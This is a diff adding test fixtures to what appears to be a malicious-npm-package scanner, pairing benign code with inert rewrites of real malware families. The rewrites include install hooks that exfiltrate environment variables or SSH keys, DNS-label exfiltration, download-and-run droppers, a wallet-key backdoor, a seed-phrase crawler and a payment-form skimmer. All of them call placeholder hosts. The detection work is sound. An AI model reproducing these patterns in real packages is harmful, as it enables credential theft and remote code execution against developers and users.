@@ -669,3 +669,429 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
         ],
     },
 }
+
+
+def _add(rule_id: str, *, positive: list[Files], benign: list[Files]) -> None:
+    SAMPLES[rule_id]["positive"].extend(positive)
+    SAMPLES[rule_id]["benign"].extend(benign)
+
+
+# -- families from real published npm malware (issue 10), rewritten inert ---------------------------
+
+_HOOK = '{{"name": "x", "version": "1.0.0", "scripts": {{"{hook}": "{command}"}}}}'
+
+_add(
+    "malicious-env-exfiltration",
+    positive=[
+        {
+            # the environment under another name, with a fallback (@frontend-metrics/hotjar)
+            "package.json": _HOOK.format(hook="preinstall", command="node index.js"),
+            "index.js": (
+                "const https = require('https');\n"
+                "var data = process.env || {};\n"
+                "const req = https.request({host: ['h', 'example', 'invalid'].join('.'), method: 'POST'});\n"
+                "req.write(Buffer.from(JSON.stringify(data)).toString('base64'));\n"
+                "req.end();\n"
+            ),
+        },
+        {
+            # host identity, hex-encoded into DNS labels under a callback service (persona-tool)
+            "lookup.js": (
+                "const dns = require('dns');\nconst os = require('os');\n"
+                "const suffix = '.x.oast.fun';\n"
+                "const data = {h: os.hostname(), c: process.cwd()};\n"
+                "const hex = Buffer.from(JSON.stringify(data)).toString('hex');\n"
+                "const resolveName = (name) => dns.resolve4(name, () => {});\n"
+                "hex.match(/.{1,60}/g).forEach((chunk, i) => { resolveName(`${i}.${chunk}${suffix}`); });\n"
+            ),
+        },
+    ],
+    benign=[
+        {
+            # the environment read for one setting, under another name
+            "index.js": (
+                "const env = process.env || {};\n"
+                "const https = require('https');\n"
+                "https.get({host: 'registry.example.invalid', path: '/' + (env.REGISTRY_PATH || '')});\n"
+            ),
+        },
+    ],
+)
+_add(
+    "malicious-dns-probe",
+    positive=[
+        {
+            # the host name in a DNS label, through a variable (electorn)
+            "preinstall.js": (
+                "const os = require('os');\nconst dns = require('dns');\n"
+                "let target = `x.1.0.${os.hostname()}.example.invalid`;\n"
+                "dns.lookup(target, () => {});\n"
+            ),
+        },
+    ],
+    benign=[
+        {"ip.js": "const os = require('os');\nconst dns = require('dns');\ndns.lookup(os.hostname(), (e, a) => a);\n"},
+    ],
+)
+_add(
+    "malicious-download-exec",
+    positive=[
+        {
+            # a hook script starts the next file itself; it runs what it fetched through a spelled global
+            "package.json": _HOOK.format(hook="postinstall", command="node setup.js"),
+            "setup.js": ("require('child_process').spawn('nohup node update.js >/dev/null 2>&1 &', {shell: true});\n"),
+            "update.js": (
+                "var http = require('http');\n"
+                "http.get({host: 'h.example.invalid', path: '/u.json'}, function (response) {\n"
+                "  var body = '';\n"
+                "  response.on('data', function (d) { body += d; });\n"
+                "  response.on('end', function () {\n"
+                "    var f = this[(typeof this.x).charAt(0).toUpperCase() + 'unction'];\n"
+                "    var o = new f(body); o();\n"
+                "  });\n"
+                "});\n"
+            ),
+        },
+        {
+            # a dropper writes its next stage as a batch file and runs it (the 2024 fake-job campaign)
+            "tocall.js": (
+                "const fs = require('fs');\nconst { exec } = require('child_process');\n"
+                'const script = \'@echo off\\ncurl -o t.db -L "http://h.example.invalid/x" > nul 2>&1\\n'
+                "rundll32 t.db, Run\\n';\n"
+                "fs.writeFile('x.bat', script, (err) => { if (!err) exec('x.bat'); });\n"
+            ),
+        },
+    ],
+    benign=[
+        {
+            # dispatch on a method name with network data inside a class: not a hidden global
+            "client.js": (
+                "const https = require('https');\n"
+                "class Client {\n"
+                "  get(path, kind) {\n"
+                "    https.get({host: 'api.example.invalid', path}, (res) => {\n"
+                "      let body = '';\n"
+                "      res.on('data', (d) => { body += d; });\n"
+                "      res.on('end', () => this['on' + kind](body));\n"
+                "    });\n"
+                "  }\n"
+                "}\nmodule.exports = Client;\n"
+            ),
+        },
+        {
+            # a script written and run that downloads nothing
+            "gen.js": (
+                "const fs = require('fs');\nconst { execSync } = require('child_process');\n"
+                "fs.writeFileSync('build.sh', 'set -e\\nmake all\\n');\nexecSync('sh build.sh');\n"
+            ),
+        },
+    ],
+)
+_add(
+    "malicious-decode-exec",
+    positive=[
+        {
+            # an install hook evaluates a script kept in a JSON file (depe-tool)
+            "package.json": _HOOK.format(
+                hook="preinstall",
+                command=(
+                    "node -e \\\"const fs = require('fs'); const raw = fs.readFileSync('p.json'); "
+                    'eval(JSON.parse(raw).script);\\"'
+                ),
+            ),
+            "p.json": '{"script": "console.log(1)"}',
+        },
+    ],
+    benign=[
+        {"index.js": "const fs = require('fs');\nmodule.exports = JSON.parse(fs.readFileSync('c.json', 'utf8'));\n"},
+    ],
+)
+_add(
+    "malicious-credential-access",
+    positive=[
+        {
+            # an install hook printing the user's SSH keys (pizza-pasta)
+            "package.json": _HOOK.format(hook="postinstall", command="find ~/.ssh | xargs cat || true"),
+        },
+        {
+            # a key-stealing backdoor in a wallet library, sent in request headers (solana/web3.js 1.95.7)
+            "lib/index.js": (
+                "import bs58 from 'bs58';\n"
+                "const QUEUE = new Set();\n"
+                "class Loader {\n"
+                "  static addToQueue(process) {\n"
+                "    const b = bs58.encode(process);\n"
+                "    if (QUEUE.has(b)) return;\n"
+                "    fetch('https://h.example.invalid/q', {method: 'POST', headers: {'x-id': b.substring(0, 24)}})\n"
+                "      .catch(() => {});\n"
+                "  }\n"
+                "}\n"
+                "export class Keypair {\n"
+                "  constructor(secretKey) {\n"
+                "    try { this._secretKey = secretKey; } catch { this._secretKey = null; }\n"
+                "    Loader.addToQueue(this._secretKey);\n"
+                "  }\n"
+                "}\n"
+                "export const solana = Keypair;\n"
+            ),
+        },
+        {
+            # a crawler reading the user's files for seed phrases and sending them (ndoe-fethc)
+            "unhook.js": (
+                "const fs = require('fs/promises');\nconst os = require('os');\nconst path = require('path');\n"
+                "const b39 = require('bip39');\n"
+                "async function walk(dir) {\n"
+                "  for (const e of await fs.readdir(dir, {withFileTypes: true})) {\n"
+                "    const p = path.join(dir, e.name);\n"
+                "    if (e.isDirectory()) { await walk(p); continue; }\n"
+                "    const text = await fs.readFile(p, 'utf-8');\n"
+                "    if (b39.validateMnemonic(text.trim())) {\n"
+                "      await fetch('https://h.example.invalid/', {method: 'POST', body: JSON.stringify(text)});\n"
+                "    }\n"
+                "  }\n"
+                "}\n"
+                "walk(path.join(os.homedir(), 'Desktop'));\n"
+            ),
+        },
+    ],
+    benign=[
+        {"package.json": _HOOK.format(hook="postinstall", command="ssh-keygen -l -f key.pub || true")},
+        {
+            # a wallet library that signs with the key and sends only the signature
+            "lib/index.js": (
+                "import nacl from 'tweetnacl';\n"
+                "export class Wallet {\n"
+                "  constructor(secretKey) { this._secretKey = secretKey; }\n"
+                "  send(tx) {\n"
+                "    const sig = nacl.sign.detached(tx, this._secretKey);\n"
+                "    return fetch('https://rpc.example.invalid/', {method: 'POST', body: JSON.stringify({tx, sig})});\n"
+                "  }\n"
+                "}\nexport const solana = Wallet;\n"
+            ),
+        },
+    ],
+)
+_add(
+    "malicious-obfuscation",
+    positive=[
+        {
+            # obfuscator.io's rotated string array, module names taken from it (xmlrpc, noblox)
+            "lib.js": (
+                "const a0=a0_0x1d3b;(function(_0x345f,_0x4beb){const _0xece3=a0_0x1d3b,_0x5c02=_0x345f();"
+                "while(!![]){try{const _0x5b0d=parseInt(_0xece3(0x20e))/0x1;if(_0x5b0d===_0x4beb)break;"
+                "else _0x5c02['push'](_0x5c02['shift']());}catch(_0x2e86){_0x5c02['push'](_0x5c02['shift']());}}}"
+                "(a0_0x2970,0x48b94));"
+                + "".join(f"var _0x{n:04x}=a0(0x{n:x});" for n in range(0x1A0, 0x1B4))
+                + "const _0xcp=require(a0(0x1a6));\n"
+            ),
+        },
+        {
+            # JS-Confuser's hex arithmetic around every string-table lookup (nvmfix)
+            "config.js": (
+                "const cp = require('child_process');\n"
+                + "".join(f"function f{n}(a){{return t[a<0x4a?a<0x4a?a-0x3e:a-0x14:a+0x{n:x}]}}\n" for n in range(10))
+            ),
+        },
+        {
+            # a URL spelled in \x escapes next to network code (device-mqtt)
+            "api.js": (
+                'var _u = ["\\x68\\x74\\x74\\x70\\x73\\x3A\\x2F\\x2F\\x68\\x2E\\x65\\x78\\x61\\x6D\\x70\\x6C\\x65"];\n'
+                "fetch(_u[0] + document.cookie);\n"
+            ),
+        },
+    ],
+    benign=[
+        {
+            # an ordinary queue shifts and pushes; no obfuscator names
+            "queue.js": "const q = [1, 2, 3];\nfunction rotate(a) { a.push(a.shift()); return a; }\nrotate(q);\n",
+        },
+        {
+            # escapes spelling binary data, not text
+            "table.js": 'module.exports = "\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x09";\n',
+        },
+    ],
+)
+_add(
+    "malicious-silent-process",
+    positive=[
+        {"package.json": _HOOK.format(hook="postinstall", command="nohup node beacon.js > /dev/null 2>&1 &")},
+    ],
+    benign=[
+        {"package.json": _HOOK.format(hook="postinstall", command="node install.js || true")},
+    ],
+)
+
+# -- what real popular packages do that looks like the above (the benign half of bench/vet_vs_guarddog.py) --
+
+SAMPLES["malicious-download-exec"]["benign"].extend(
+    [
+        {
+            # a binary installer that checks the download against a pinned hash before writing it (esbuild)
+            "package.json": _HOOK.format(hook="postinstall", command="node install.js"),
+            "install.js": (
+                "const https = require('https');\nconst fs = require('fs');\nconst crypto = require('crypto');\n"
+                "function check(bytes) {\n"
+                "  const hash = crypto.createHash('sha256').update(bytes).digest('hex');\n"
+                "  if (hash !== EXPECTED) throw new Error('hash mismatch');\n"
+                "}\n"
+                "async function download(url, binPath) {\n"
+                "  const bytes = await new Promise((ok) => https.get(url, (res) => ok(res)));\n"
+                "  check(bytes);\n"
+                "  fs.writeFileSync(binPath, bytes);\n"
+                "  fs.chmodSync(binPath, 493);\n"
+                "}\n"
+                "download('https://registry.example.invalid/x.tgz', 'bin/x');\n"
+            ),
+        },
+        {
+            # a timer on a bound method of a socket object (ws)
+            "lib/websocket.js": (
+                "const net = require('net');\n"
+                "const socket = net.connect(80, 'example.invalid');\n"
+                "socket.on('data', (chunk) => {\n"
+                "  const ws = chunk.owner;\n"
+                "  ws.timer = setTimeout(ws.emitClose.bind(ws), 30000);\n"
+                "});\n"
+            ),
+        },
+    ]
+)
+SAMPLES["malicious-env-exfiltration"]["benign"].append(
+    {
+        # the environment handed to a child process, whose token then goes to it over loopback (next)
+        "lib/worker.js": (
+            "const { spawn } = require('child_process');\nconst { request } = require('http');\n"
+            "const worker = spawn('./server', [], {env: {...process.env, TOKEN: 'x'}});\n"
+            "const headers = {};\nheaders['x-token'] = worker.token;\n"
+            "request({hostname: '127.0.0.1', port: 8080, headers}).end();\n"
+        ),
+    }
+)
+SAMPLES["malicious-credential-access"]["benign"].append(
+    {
+        # a bundled CLI: a crypto library in one place, a home-directory file walker far away (yarn)
+        "lib/cli.js": (
+            "const nacl = {};\nnacl.box = {keyPair: {fromSecretKey: (k) => ({secretKey: k})}};\n"
+            + "// filler\n" * 800
+            + "const fs = require('fs');\nconst os = require('os');\n"
+            "function rcFiles() { return fs.readdirSync(os.homedir()).map((f) => fs.readFileSync(f, 'utf8')); }\n"
+            "function report(x) { return fetch('https://registry.example.invalid/-/report', {body: x}); }\n"
+            "module.exports = { rcFiles, report, nacl };\n"
+        ),
+    }
+)
+
+# -- second round, after the held-out half was revealed (bench/vet_real_malware.py --reveal-holdout) --------
+
+_add(
+    "malicious-download-exec",
+    positive=[
+        {
+            # the helper fetches and writes, the caller runs the file (distube-fast)
+            "postinstall.js": (
+                "const http = require('http');\nconst fs = require('fs');\n"
+                "const { execFileSync } = require('child_process');\n"
+                "async function main() { await download('http://h.example.invalid/m.exe', 'm.exe'); "
+                "execFileSync('m.exe'); }\n"
+                "function download(url, dest) {\n"
+                "  return new Promise((resolve) => {\n"
+                "    const file = fs.createWriteStream(dest);\n"
+                "    http.get(url, (response) => { response.pipe(file); file.on('finish', resolve); });\n"
+                "  });\n"
+                "}\n"
+                "main();\n"
+            ),
+        },
+    ],
+    benign=[
+        {
+            # a helper that downloads a data file; nothing runs it
+            "fetch-data.js": (
+                "const https = require('https');\nconst fs = require('fs');\n"
+                "function download(url, dest) {\n"
+                "  return new Promise((ok) => https.get(url, (r) => r.pipe(fs.createWriteStream(dest)).on('close', ok)));\n"
+                "}\n"
+                "download('https://data.example.invalid/tz.json', 'tz.json').then(() => console.log('ok'));\n"
+            ),
+        },
+    ],
+)
+_add(
+    "malicious-decode-exec",
+    positive=[
+        {
+            # a payload decoded twice, written next to the package and run with node (hlwgirl)
+            "index.js": (
+                "const { exec } = require('child_process');\nconst fs = require('fs');\nconst path = require('path');\n"
+                "const hex = '593239756332397352533573623263';\n"
+                "const b64 = Buffer.from(hex, 'hex').toString('utf-8');\n"
+                "const script = Buffer.from(b64, 'base64').toString('utf-8');\n"
+                "const target = path.join(__dirname, 'main.js');\n"
+                "fs.writeFileSync(target, script);\n"
+                "exec(`node ${target}`);\n"
+            ),
+        },
+    ],
+    benign=[
+        {
+            # an image decoded and written; the process started is unrelated to it and in another function
+            "build.js": (
+                "const fs = require('fs');\nconst { execSync } = require('child_process');\n"
+                "function icon() { fs.writeFileSync('icon.png', Buffer.from('iVBORw0KGgo=', 'base64')); }\n"
+                "function version() { return execSync('git describe').toString(); }\n"
+                "module.exports = { icon, version };\n"
+            ),
+        },
+    ],
+)
+_add(
+    "malicious-destructive-write",
+    positive=[{"package.json": _HOOK.format(hook="postinstall", command="echo pwned > /etc/motd")}],
+    benign=[{"package.json": _HOOK.format(hook="postinstall", command="node build.js > build.log 2> /dev/null")}],
+)
+_add(
+    "malicious-credential-access",
+    positive=[
+        {
+            # a form skimmer in a library's bundle (device-mqtt, stream-combine)
+            "build/index.js": (
+                "var t = ['https://h.example.invalid/p?pl='];\n"
+                "for (var a = 0; a < document.forms.length; a++) {\n"
+                "  var s = document.forms[a].elements;\n"
+                "  for (var u = 0; u < s.length; u++) {\n"
+                "    if ('password' == s[u].type || 'cvc' == s[u].name.toLowerCase()) {\n"
+                "      document.forms[a].addEventListener('submit', function () {\n"
+                "        var n = '';\n"
+                "        for (var o = 0; o < this.elements.length; o++) n += this.elements[o].value + ':';\n"
+                "        this.action = t[0] + encodeURIComponent(btoa(n + '|' + document.cookie));\n"
+                "      });\n"
+                "    }\n"
+                "  }\n"
+                "}\n"
+            ),
+        },
+    ],
+    benign=[
+        {
+            # a payment form that validates its own card fields and posts to its own endpoint
+            "card-form.js": (
+                "export function bind(form) {\n"
+                "  form.addEventListener('submit', (e) => {\n"
+                "    const cvc = form.querySelector('[name=\"cvc\"]').value;\n"
+                "    if (!/^\\d{3,4}$/.test(cvc)) e.preventDefault();\n"
+                "  });\n"
+                "}\n"
+            ),
+        },
+    ],
+)
+SAMPLES["malicious-destructive-write"]["benign"].append(
+    {
+        # a browser installer the user runs on purpose adds an apt source (playwright's reinstall_msedge_*.sh)
+        "bin/reinstall_msedge_stable_linux.sh": (
+            "#!/usr/bin/env bash\nset -e\n"
+            'sh -c \'echo "deb [arch=amd64] https://packages.example.invalid/edge stable main" '
+            "> /etc/apt/sources.list.d/edge.list'\n"
+        ),
+    }
+)
